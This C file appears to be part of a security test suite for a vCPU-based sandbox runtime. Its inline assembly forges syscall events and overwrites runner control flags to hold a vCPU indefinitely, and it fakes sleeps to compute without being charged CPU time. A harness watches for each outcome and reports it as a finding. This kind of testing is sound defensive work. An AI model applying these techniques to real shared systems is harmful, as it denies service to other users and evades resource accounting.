/* SPDX-License-Identifier: MIT */
/*
 * lull.c: threads that keep a vCPU waiting for a runner that does not answer.
 *
 *	asleep   A forges the event of a call that has left its FPU state in the registers, and goes
 *	         on computing. Its task wakes up on another vCPU, which asks the runner for that
 *	         state. The runner turns the question into an order to continue, and sleeps in its
 *	         gate.
 *	faults   A faults all the time, and after each hand-off B writes that A's runner runs.
 *
 * attack_liar() is not about a runner's silence: its program reports a call, as "asleep" does, and
 * goes on computing, so that no task is charged for the CPU time.
 */
#include "escape.h"

#define LULL_MS 12000
/*
 * If no other task has run on the vCPU for longer, the attack has succeeded. The kernel kills a
 * silent thread earlier.
 */
#define HELD_MS 6000

/*
 * On the first vCPU: reports a call nanosleep(@t) and computes until the kernel wants the FPU
 * state. Without a @gate it computes for ever, adding to @word. Returns when the task continues.
 */
void forged_sleep(uintptr_t ctl, const struct timespec *t, uintptr_t word, uintptr_t gate);

#define TEXT(x) #x
#define STR(x) TEXT(x)
#define REG(reg, at) "mov %" #reg ", " STR(at) "(%rdi)\n"
#define SAY(size, value, at) "mov" #size " $" STR(value) ", " STR(at) "(%rdi)\n"

/* clang-format off */
__asm__(".text\n"
	"forged_sleep:\n"
	REG(rsp, C_RSP) REG(rbx, C_RBX) REG(rbp, C_RBP) REG(r12, C_R12) REG(r13, C_R13) REG(r14, C_R14) REG(r15, C_R15)
	REG(rsi, C_RDI) SAY(q, 0, C_RSI) SAY(q, 35, C_RAX) SAY(q, 0x202, C_EFLAGS)
	"lea 4f(%rip), %rax\n"
	REG(rax, C_RIP) SAY(l, EXIT_IRET, C_EXIT) SAY(l, EVT_CALL, C_EV) SAY(l, TURN_KERNEL, C_TURN)
	"mov $300000000, %r9d\n"
	"test %rcx, %rcx\n"
	"jz 5f\n"
	"1: pause\n"
	"dec %r9d\n"
	"jz 3f\n"
	"cmpl $" STR(EXIT_SAVE) ", " STR(C_EXIT) "(%rdi)\n"
	"jne 1b\n"
	SAY(l, EXIT_IRET, C_EXIT)
	"lea 2f(%rip), %rax\n"
	REG(rax, C_RIP) REG(rdx, C_RDX) REG(rcx, C_R8)
	"mov %rcx, %r8\n"
	"2: mov %rdx, %rdi # the woken stub goes on here\n"
	"mov (%rdi), %edx\n"
	"xor %esi, %esi\n"
	"xor %r10d, %r10d\n"
	"mov $202, %eax\n"
	"jmp *%r8\n"
	"3: ud2\n"
	"4: ret\n"
	"5: incq (%rdx)\n"
	"jmp 5b\n");
/* clang-format on */

static void pin_to(pid_t tid, int cpu)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(cpu, &set);
	sched_setaffinity(tid, sizeof(set), &set);
}

static volatile pid_t sleeper;

static uintptr_t first_gate(void)
{
	uintptr_t at = stub;

	while (memcmp((void *)at, "\x0f\x05\x48\x8d\x1d", 5))
		at++;
	return at;
}

static void *sleeps(void *arg)
{
	struct timespec t = { 0, 100000000 };
	uintptr_t gate = first_gate(),
		  word = stub + STUB_WORDS + *(uint32_t *)(stub + STUB_ORDERS + O_WORD);

	(void)arg;
	for (;;) {
		pin_to(0, 0);
		sleeper = (pid_t)syscall(SYS_gettid);
		forged_sleep(slot_ctl(0), &t, word, gate);
	}
	return NULL;
}

static void asleep(void *arg)
{
	struct timespec t = { 0, 20000000 };
	pthread_t thread;

	(void)arg;
	pin_to(0, 1);
	pthread_create(&thread, NULL, sleeps, NULL);
	for (;; sleeper = 0) {
		while (!sleeper)
			sched_yield();
		nanosleep(&t, NULL);
		pin_to(sleeper, 1);
	}
}

static volatile bool lulling;

/* Undoes each hand-off of the first slot's runner, and keeps the kernel from being woken up. */
static void *say_it_runs(void *arg)
{
	volatile uint32_t *turn = (volatile uint32_t *)(slot_ctl(0) + C_TURN);
	volatile uint32_t *kwait = (volatile uint32_t *)(slot_ctl(0) + C_KWAIT);

	(void)arg;
	pin_to(0, 1);
	lulling = true;
	for (;;) {
		*kwait = 0;
		if (*turn != TURN_RUN)
			*turn = TURN_RUN;
	}
	return NULL;
}

static void again(int sig)
{
	(void)sig;
}

static void faults(void *arg)
{
	struct sigaction sa = { .sa_handler = again, .sa_flags = SA_NODEFER };
	pthread_t t;

	(void)arg;
	sigaction(SIGSEGV, &sa, NULL);
	pin_to(0, 0);
	pthread_create(&t, NULL, say_it_runs, NULL);
	while (!lulling)
		sched_yield();
	for (;;)
		*(volatile char *)8 = 1;
}

/*
 * Stores the longest time in ms for which another task of that vCPU did not run in *longest. Never
 * returns.
 */
static void watch_vcpu(int cpu, volatile long *longest)
{
	struct timespec t = { 0, 1000000 };
	long last = now_ms(), now;

	prctl(PR_SET_PDEATHSIG, SIGKILL);
	pin_to(0, cpu);
	for (;; last = now) {
		nanosleep(&t, NULL);
		now = now_ms();
		if (now - last > *longest)
			*longest = now - last;
	}
}

static void watched(const char *what, void (*fn)(void *), int cpu)
{
	volatile long *longest =
		mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid_t watcher = fork();
	bool good;

	if (!watcher)
		watch_vcpu(cpu, longest);
	good = attempt(fn, NULL, LULL_MS);
	kill(watcher, SIGKILL);
	waitpid(watcher, NULL, 0);
	if (!good)
		finding("%s", what);
	if (*longest > HELD_MS)
		finding("%s: a vCPU was held for %ld ms", what, *longest);
}

void attack_lull(void)
{
	cpu_set_t set;

	if (sched_getaffinity(0, sizeof(set), &set) || CPU_COUNT(&set) < 2)
		return;
	watched("asleep", asleep, 1);
	watched("faults", faults, 0);
}

/* ---- for nothing ---- */

#define FREE_MS 100000
#define STILL_MS 2000

static volatile uint64_t *counter;

static void computes(void *arg)
{
	struct timespec t = { 3600, 0 };

	(void)arg;
	pin_to(0, 0);
	*counter = 1; /* may not fault later */
	forged_sleep(slot_ctl(0), &t, (uintptr_t)counter, 0);
}

/* Returns the CPU time in ms that the kernel has charged to @pid. */
static long charged(pid_t pid)
{
	struct timespec t;
	clockid_t clock;

	if (clock_getcpuclockid(pid, &clock) || clock_gettime(clock, &t))
		return 0;
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static void pause_ms(long ms)
{
	struct timespec t = { ms / 1000, ms % 1000 * 1000000 };

	nanosleep(&t, NULL);
}

/*
 * Waits until the program has stopped computing, or is charged for it. Returns false after FREE_MS.
 */
static bool is_found_out(pid_t pid)
{
	long end = now_ms() + FREE_MS;

	while (now_ms() < end) {
		uint64_t before = *counter;

		pause_ms(STILL_MS);
		if ((*counter == before && before) || charged(pid) > STILL_MS)
			return true;
	}
	return false;
}

void attack_liar(void)
{
	bool found_out;
	pid_t pid;

	counter = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	pid = fork();
	if (!pid)
		computes(NULL);
	found_out = is_found_out(pid);
	kill(pid, SIGKILL);
	waitpid(pid, NULL, 0);
	if (!found_out)
		finding("a program has computed for %d s for nothing", FREE_MS / 1000);
}
